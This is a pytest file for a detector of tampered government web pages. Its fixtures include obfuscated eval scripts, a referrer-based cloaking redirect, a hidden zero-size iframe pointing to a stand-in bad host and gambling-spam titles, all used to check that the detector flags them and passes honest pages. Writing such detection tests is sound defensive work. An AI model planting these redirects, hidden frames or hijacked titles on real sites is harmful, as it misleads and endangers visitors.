"""RULES V-1 (4): planted scripts, frames, titles and script hosts are candidates; share buttons, reports and redesigns are not."""

from collections.abc import Sequence
from datetime import timedelta

import pytest

from checks import page_tampered
from monitor.contract import Evidence, Pages, PageThen
from monitor.judging.runner import run
from monitor.model import Note, Verdict, local_day, show_day
from tests.checks.district import AS_OF, PORTAL_URL, evidence, judge
from tests.checks.pages import noted, page, pages, seen

ID = "page_tampered"
TEXT = "<h1>工作动态</h1><p>区政府召开会议，部署下一阶段工作。</p>"
ESCAPED = "<script>document.write(unescape('" + "%3c%73%63%72%69%70%74%20" * 5 + "'))</script>"
CHAR_CODES = f"<script>eval(String.fromCharCode({','.join(['100'] * 30)}))</script>"
CLOAK = "<script>var r=document.referrer;if(r.indexOf('baidu')>0){window.location='http://bad.example/';}</script>"
FRAME = '<iframe src="http://bad.example.com/x.html" width=0 height=0></iframe>'


def titled(title: str) -> str:
    return f"<html><head><title>{title}</title></head><body>{TEXT}</body></html>"


def given(*markups: str) -> Evidence:
    read = [page(markup, f"{PORTAL_URL}zw/{number}.html") for number, markup in enumerate(markups)]
    return evidence(noted(ID, page_tampered.read, *read))


def hosts(*names: str) -> list[Note]:
    return [Note(code="host", text=name) for name in names]


def changed_page(before: Sequence[str], now: Sequence[str], *, days: float = 2, url: str = "a.html") -> Pages:
    """A site watched for sixty days; one of its pages changed ``days`` ago."""
    then = PageThen(at=AS_OF - timedelta(days=50), title="旧", notes={ID: tuple(hosts(*before))})
    return pages(seen(ID, hosts(*now), url=PORTAL_URL + url, days=days, first_days=55, before=[then]))


NEW_HOST = evidence(changed_page(["cdn.known.example"], ["cdn.known.example", "js.bad.example"]))
SAMPLES = [given(TEXT + CLOAK), given(TEXT + FRAME), given(titled("百家乐_真人娱乐-首页")), NEW_HOST]


@pytest.mark.parametrize("script", [ESCAPED, CHAR_CODES, CLOAK, "<script>eval(atob('YWxlcnQoMSk='))</script>"])
def test_planted_scripts_are_candidates(script: str) -> None:
    found = judge(page_tampered, given(TEXT + script))
    (finding,) = found.findings
    assert (found.verdict, finding.code, finding.review) == (Verdict.WARN, "script_planted", True)
    assert finding.steps[0].what.startswith("脚本片段")
    assert run(ID, page_tampered, given(TEXT + script)).judgement.verdict is Verdict.PASS  # type: ignore[arg-type]


@pytest.mark.parametrize(
    "markup",
    [
        "<script>var s=unescape('%u5317%u4eac');document.title=s</script>",
        "<script>if(document.referrer==''){document.getElementById('back').style.display='none'}</script>",
        "<script>var a=String.fromCharCode(65,66)</script>",
        '<iframe src="https://www.cq.gov.cn/banner.html" width=0 height=0></iframe>',
        '<iframe src="/counter.html" style="display:none"></iframe>',
        '<iframe src="https://v.example.com/player" width="600" height="400"></iframe>',
        '<iframe src="http://static.bshare.cn/cm.html" width=0 height=0></iframe>',
    ],
)
def test_what_honest_pages_do_is_none(markup: str) -> None:
    found = judge(page_tampered, given(TEXT + markup))
    assert (found.verdict, found.findings) == (Verdict.PASS, ())


def test_a_hidden_frame_of_a_stranger_is_a_candidate() -> None:
    assert judge(page_tampered, SAMPLES[1]).findings[0].code == "frame_planted"
    hidden = FRAME.replace("width=0 height=0", 'style="display: none"')
    assert judge(page_tampered, given(TEXT + hidden)).findings[0].code == "frame_planted"


def test_a_title_that_no_reader_sees_is_hijacked() -> None:
    coded = "".join(f"&#{ord(letter)};" for letter in "澳门银河")
    for title in ("澳门金沙网址_官方", f"{coded}-首页"):
        assert judge(page_tampered, given(titled(title))).findings[0].code == "title_hijacked", title


@pytest.mark.parametrize(
    "planted",
    [
        "<a href='http://x.example.com/'>澳门新葡京娱乐城官网</a>", "<a href='/x.html'>新葡京</a> <a href='/x.html'>澳门<b>新葡京</b>网址</a>",
        "<div style='display:none'><a href=//x.example.com/>防骗提醒：新葡京官网</a></div>",
    ],
)  # fmt: skip
def test_words_that_only_planted_links_say_do_not_make_a_title_honest(planted: str) -> None:
    taken = titled("新葡京_百家乐在线_机构职能").replace("</body>", f"{planted}</body>")
    assert [found.code for found in judge(page_tampered, given(taken)).findings] == ["title_hijacked"]


def test_an_honest_report_stays_one_beside_a_planted_link_and_a_list_of_reports_is_honest() -> None:
    planted = "<a href='http://x.example.com/'>赌博平台</a>"
    report = "<title>打击网络赌博</title><body><h1>打击网络赌博</h1><p>近日，民警出动。</p>"
    rows = "<li><a href='/a/1.html'>区公安局打击网络赌博专项行动</a></li>" * 3
    for markup in (f"{report}{planted}", f"<title>打击网络赌博专题</title><body><ul>{rows}</ul>{planted}"):
        assert judge(page_tampered, given(f"<html><head>{markup}</body></html>")).findings == ()


def test_a_report_about_gambling_is_a_report() -> None:
    title = "公安局捣毁一处网络赌博窝点"
    markup = (
        f"<html><head><title>{title}-区政府</title></head><body><h1>{title}</h1><p>近日，民警出动。</p></body></html>"
    )
    assert judge(page_tampered, given(markup)).findings == ()


def test_a_new_script_host_on_one_old_page_is_a_candidate() -> None:
    (finding,) = judge(page_tampered, NEW_HOST).findings
    assert finding.code == "script_new_host"
    assert "js.bad.example" in finding.what
    assert "cdn.known.example" not in finding.what


@pytest.mark.parametrize(("bodies", "told"), [("..xxxx", True), ("xxxxxx", False), ("x..xxx", False), (".....x", True)])
def test_a_page_that_changes_daily_keeps_its_candidate(bodies: str, told: bool) -> None:
    """Oldest body first; x: it loads the host."""
    newest, *before = (tuple(hosts("js.bad.example")) if each == "x" else () for each in reversed(bodies))
    then = [PageThen(at=AS_OF - timedelta(days=2 + days), notes={ID: notes}) for days, notes in enumerate(before)]
    found = judge(page_tampered, evidence(pages(seen(ID, newest, days=1, first_days=55, before=then)))).findings
    assert [finding.since for finding in found] == [AS_OF - timedelta(days=bodies.count("x"))] * told
    assert all(f"自{show_day(local_day(AS_OF) - timedelta(days=bodies.count('x')))}起" in each.what for each in found)


def test_a_new_script_host_on_many_pages_is_a_redesign() -> None:
    many = [changed_page([], ["cdn.new.example"], url=f"{number}.html").pages[0] for number in range(6)]
    assert judge(page_tampered, evidence(pages(*many))).findings == ()
    assert len(judge(page_tampered, evidence(pages(*many[:5]))).findings) == 5


def test_nothing_is_new_before_there_is_a_baseline() -> None:
    fresh = changed_page([], ["js.bad.example"])
    young = Pages(crawled_at=AS_OF, read=fresh.read, pages=fresh.pages, since=AS_OF - timedelta(days=6))
    assert judge(page_tampered, evidence(young)).findings == ()
    first = pages(seen(ID, hosts("js.any.example"), days=1))
    assert judge(page_tampered, evidence(first)).findings == (), "a new page has no past to compare with"
